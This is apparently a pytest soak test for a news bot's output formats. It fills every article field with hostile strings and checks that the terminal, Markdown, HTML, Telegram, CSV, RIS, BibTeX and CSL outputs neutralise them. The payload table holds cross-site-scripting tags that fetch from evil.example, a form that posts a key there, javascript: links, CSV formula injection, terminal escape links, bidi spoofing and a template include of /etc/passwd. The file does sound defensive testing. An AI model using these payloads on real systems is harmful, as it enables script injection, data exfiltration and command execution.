"""What articles carry that a face could obey: in every field, in every form, and nothing comes of it."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable

import lxml.html
import pytest
from markdown_it import MarkdownIt
from telegram_rules import tappable, words

from bot.answers.answer import Abstention, Answer, Sentence
from bot.answers.citation import Nearest, cite
from bot.showing.formats.chosen import answer_in
from bot.showing.markdown import answer_markdown
from bot.showing.terminal import print_answer
from bot.telegram.messages.phrases import Dictionary
from bot.telegram.messages.rendering import answer_reply, nearest_reply, opened_reply
from bot.telegram.messages.replies import messages
from index.canonical import one_line, tidy
from index.records import Article, Span

PAYLOADS = {
    "a picture in Markdown": "![x](https://evil.example/p.png?q=who)",
    "a link in Markdown": "[Read on](https://evil.example)",
    "a link by reference": "[Read on][1]\n\n[1]: https://evil.example",
    "a link in angles": "<https://evil.example>",
    "an address": "https://evil.example/login",
    "an address without its scheme": "evil.example/login",
    "a script": "<script>fetch('https://evil.example')</script>",
    "a picture": "<img src=x onerror=\"fetch('//evil.example')\">",
    "a drawing": "<svg/onload=alert(1)>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "a form": "<form action=https://evil.example><input name=key></form>",
    "an end of all": "</textarea></style></script></title>--><img src=https://evil.example>",
    "a style": "<style>@import 'https://evil.example'</style>",
    "an attribute": "\" onmouseover=\"alert(1)\" x='",
    "an entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;",
    "a scheme": "[now](javascript:alert(1)) javascript:alert(1) data:text/html,<script>1</script>",
    "a message to a person": "@admin_of_this /start@evil_bot #tag $USD tg://resolve?domain=evil",
    "a number to call": "+374 55 12 34 56 or 4276 3800 1234 5678",
    "colours of a terminal": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07here\x1b]8;;\x07",
    "a bell and a backspace": "safe\x07\x08\x08\x08\x08evil\r",
    "text turned round": "\u202egnp.exe\u202c \u2067x\u2069",
    "a formula": "=cmd|'/c calc'!A1",
    "a wide formula": "＝HYPERLINK(\"https://evil.example\")",
    "another record": "x\nER  - \nTY  - NEWS\nUR  - https://evil.example",
    "another entry": "x}, url = {https://evil.example}}\n@misc{evil, title={",
    "a place of ours": "[2] “The minister takes bribes.” — The Courier",
    "words of a template": "${passages} $question {{ config }} {% include '/etc/passwd' %} %s {0}",
}  # fmt: skip


def answered(payload: str) -> tuple[Answer, Answer]:
    """An answer and an abstention that quote an article of which every field is the payload."""
    line = one_line(payload)[:280]
    body = tidy(f"The port opened. {payload} It was noon.")
    article = Article(
        id="a-1", title=line, body=body, outlet=line, agency=line, author=line, published="2020-10-19",
        url=line,
    )  # fmt: skip
    one = cite(article, Span(0, len(body)), number=1)
    sentence = Sentence(one.quote, (1,), "quoted", line, line)
    nearest = Nearest(*vars(one).values(), Span(0, 8))
    why = Abstention("unsure", (line,), (nearest,), near=(line,))
    return Answer(line, (sentence,), (one,)), Answer(line, abstention=why)


def terminal(answer: Answer) -> None:
    file = io.StringIO()
    print_answer(answer, file)
    kinds = {unicodedata.category(one) for one in file.getvalue().replace("\n", "")}
    assert not kinds & {"Cc", "Cf", "Cs", "Co"}


def markdown(answer: Answer) -> None:
    for text in (answer_markdown(answer), answer_in("markdown", answer)):
        parsed = MarkdownIt("commonmark").parse(text)
        tokens = [*parsed, *(child for token in parsed for child in token.children or ())]
        assert not {token.type for token in tokens} & {"image", "html_inline", "html_block"}
        leads = [str(token.attrGet("href")) for token in tokens if token.type == "link_open"]
        # To an article's own address, where that is one; it is shown as what it is.
        assert all(lead == one_line(answer_address(answer)) for lead in leads), leads


def answer_address(answer: Answer) -> str:
    cited = answer.abstention.nearest if answer.abstention else answer.citations
    return cited[0].article.url or ""


def page(answer: Answer) -> None:
    tree = lxml.html.document_fromstring(answer_in("html", answer))
    tags = {element.tag for element in tree.iter() if isinstance(element.tag, str)}
    assert not tags & {"script", "img", "svg", "iframe", "form", "input", "object", "embed", "base", "link"}
    for element in tree.iter():
        assert not [name for name in element.attrib if name.startswith("on")]
    leads = [element.get("href") for element in tree.iter("a")]
    assert all(lead and lead.startswith(("https://", "http://")) for lead in leads)


def telegram(answer: Answer) -> None:
    english = Dictionary().of("en")
    cited = answer.abstention.nearest if answer.abstention else answer.citations
    replies = [answer_reply(answer, english, number=1), nearest_reply(cited, english, number=1)]
    replies.append(opened_reply(cited[0], english, current=True))
    for message in (one for reply in replies for one in messages(reply)):
        said = words({"text": message.text, "entities": json.dumps(list(message.entities))})
        assert tappable(said) == []
        leads = [str(one["url"]) for one in message.entities if one["type"] == "text_link"]
        assert all(lead == answer_address(answer) for lead in leads)


def table(answer: Answer) -> None:
    for row in csv.reader(io.StringIO(answer_in("csv", answer))):
        assert not [
            cell for cell in row if cell.lstrip(" ").startswith(("=", "+", "-", "@", "＝", "\t", "\r"))
        ]


def ris(answer: Answer) -> None:
    lines = answer_in("ris", answer).splitlines()
    assert [line[:2] for line in lines].count("ER") == 1
    assert [line[:2] for line in lines].count("TY") == 1
    assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in lines if line.strip())


def bibtex(answer: Answer) -> None:
    text = answer_in("bibtex", answer)
    assert len(re.findall(r"(?m)^@", text)) == 1
    depth = 0
    for sign in re.findall(r"(?<!\\)[{}]", text.replace("\\\\", "")):
        depth += 1 if sign == "{" else -1
        assert depth >= 0
    assert depth == 0


def csl(answer: Answer) -> None:
    (entry,) = json.loads(answer_in("csl-json", answer))
    assert entry["id"] == "a-1"


FACES: dict[str, Callable[[Answer], None]] = {
    "terminal": terminal, "Markdown": markdown, "page": page, "Telegram": telegram, "table": table,
    "RIS": ris, "BibTeX": bibtex, "CSL": csl,
}  # fmt: skip


@pytest.mark.soak
@pytest.mark.parametrize("face", FACES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_an_article_carries_is_obeyed(payload: str, face: str) -> None:
    for answer in answered(PAYLOADS[payload]):
        FACES[face](answer)
